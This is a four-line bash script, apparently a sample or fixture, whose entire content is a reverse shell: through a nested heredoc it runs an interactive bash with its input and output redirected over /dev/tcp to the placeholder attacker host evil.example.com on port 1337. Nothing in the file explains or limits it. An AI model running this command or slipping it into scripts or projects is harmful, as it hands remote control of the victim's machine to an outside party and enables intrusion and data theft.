#!/usr/bin/env bash
bash <<EOF
bash -i >& /dev/tcp/evil.example.com/1337 0>&1
EOF
